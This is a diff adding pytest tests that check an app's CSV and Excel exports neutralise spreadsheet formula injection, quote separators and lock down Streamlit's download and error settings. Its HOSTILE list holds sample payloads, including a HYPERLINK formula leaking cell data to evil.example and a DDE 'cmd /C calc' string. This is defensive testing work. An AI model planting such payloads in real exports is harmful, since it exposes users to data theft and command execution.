@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import tomllib
+from pathlib import Path
 
 import openpyxl
 import pandas as pd
@@ -161,8 +164,8 @@ def test_formulas_are_neutralised():
     assert list(back["n"]) == ["-1", "2", "3"]  # numbers untouched
     ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df, "notes"))).active
     assert ws["A2"].data_type == "s" and ws["A2"].value == '\'=HYPERLINK("http://evil")'
-    assert ws["A3"].value == "+62812"
-    assert ws["B2"].value == -1
+    assert ws["A3"].value == "'+62812"  # same rule as the CSV: the cell stays text when edited
+    assert ws["B2"].value == -1 and ws["B2"].data_type == "n"
 
 
 def test_named_index_is_kept_and_timezones_dropped():
@@ -177,3 +180,121 @@ def test_named_index_is_kept_and_timezones_dropped():
     ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df, "x"))).active
     assert ws["A1"].value == "region" and ws["A2"].value == "KW03"
     assert ws["B2"].value.year == 2024
+
+
+# --- issue 18: formula injection, `;` list separators, one door for downloads -----------------------
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+    "+1+1",
+    "Yuliana;=1+1",
+    "\t=1",
+    "\r=1",
+    "  =1+1",
+    'Siti "Nur", Haliza',
+    "baris\nbaru",
+    "biasa",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _fields(data: bytes, delimiter: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def _hostile_frame() -> pd.DataFrame:
+    n = len(HOSTILE)
+    return pd.DataFrame({
+        "note": HOSTILE,
+        "amount": [-1.5, -2, 0, 3, -4, 5, 6, -7, 8, 9, 10][:n],
+        "count": list(range(-5, -5 + n)),
+        "code": pd.Categorical(["=cat"] * n),
+    })
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers():
+    data = to_csv_bytes(_hostile_frame())
+    rows = _fields(data, ",")
+    assert rows[0] == ["note", "amount", "count", "code"]
+    assert len(rows) == len(HOSTILE) + 1 and all(len(r) == 4 for r in rows)
+    notes = [r[0] for r in rows[1:]]
+    assert notes == [("'" + v if v.lstrip(" ").startswith(FORMULA_START) else v) for v in HOSTILE]
+    assert not any(n.startswith(FORMULA_START) for r in rows for n in r if not _is_number(n))
+    assert [r[1] for r in rows[1:4]] == ["-1.5", "-2.0", "0.0"]  # negative numbers stay numbers
+    assert [r[2] for r in rows[1:3]] == ["-5", "-4"]
+    assert {r[3] for r in rows[1:]} == {"'=cat"}  # categorical text is text too
+
+
+def _is_number(field: str) -> bool:
+    try:
+        float(field)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_csv_fields_never_split_under_either_list_separator(delimiter):
+    data = to_csv_bytes(_hostile_frame())
+    rows = _fields(data, delimiter)
+    # under ';' a line is one field unless a separator was left unquoted; under ',' four fields
+    expected = 4 if delimiter == "," else None
+    for row in rows:
+        if expected is not None:
+            assert len(row) == expected, row
+        for field in row:
+            assert not field.startswith(FORMULA_START) or _is_number(field), (delimiter, field)
+    if delimiter == ";":
+        # every field holding ';' was quoted: no line splits into a field starting with a formula
+        assert all(not any(f.startswith("=") for f in row) for row in rows)
+        yuliana = next(r for r in rows if "Yuliana" in ";".join(r))
+        assert any("Yuliana;=1+1" in f for f in yuliana)  # one piece, the ';' inside quotes
+    assert b'"Yuliana;=1+1"' in data
+
+
+def test_csv_quotes_separators_quotes_and_line_breaks():
+    data = to_csv_bytes(pd.DataFrame({"a": ["x;y", "x,y", 'x"y', "x\ny", "x\ry", "plain"], "n": range(6)}))
+    text = data.decode("utf-8-sig")
+    for quoted in ('"x;y"', '"x,y"', '"x""y"', '"x\ny"', '"x\ry"'):
+        assert quoted in text
+    assert "\r\nplain,5\r\n" in text
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
+    assert list(back["a"]) == ["x;y", "x,y", 'x"y', "x\ny", "x\ry", "plain"]
+    assert list(back["n"]) == list(range(6))
+
+
+def test_csv_single_column_with_an_empty_value_keeps_its_rows():
+    back = pd.read_csv(io.BytesIO(to_csv_bytes(pd.DataFrame({"x": ["", "a"]}))), encoding="utf-8-sig",
+                       skip_blank_lines=True, keep_default_na=False)
+    assert list(back["x"]) == ["", "a"]
+
+
+def test_xlsx_neutralises_every_formula_prefix_and_keeps_numbers():
+    ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(_hostile_frame(), "hostile"))).active
+    rows = list(ws.iter_rows(min_row=2))
+    for row, value in zip(rows, HOSTILE, strict=True):
+        note = row[0]
+        assert note.data_type == "s", value  # never a formula cell
+        assert not str(note.value).startswith(FORMULA_START)
+    assert rows[0][1].value == -1.5 and rows[0][1].data_type == "n"
+    assert rows[0][2].value == -5 and rows[0][2].data_type == "n"
+
+
+def test_export_table_neutralises_too(engine):
+    data = export_table(engine, DIREKSI, pd.DataFrame({"branch_name": ["=1+1;@x"], "v": [-3]}), "x", "csv")
+    assert _fields(data, ",")[1] == ["'=1+1;@x", "-3"]
+
+
+def test_streamlit_config_has_one_door_for_downloads_and_no_error_details():
+    """Streamlit's table toolbar download (unmasked, unaudited, formulas raw) is off, and no traceback,
+    exception type or message reaches the browser."""
+    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
+    client = config["client"]
+    assert client["disableDataExport"] is True
+    assert client["showErrorDetails"] == "none"
+    from streamlit import config as st_config
+
+    assert "none" in {o.value for o in st_config.ShowErrorDetailsConfigOptions}
+    assert config["server"]["enableXsrfProtection"] is True  # the other settings are kept
+    assert config["server"]["maxUploadSize"] == 50
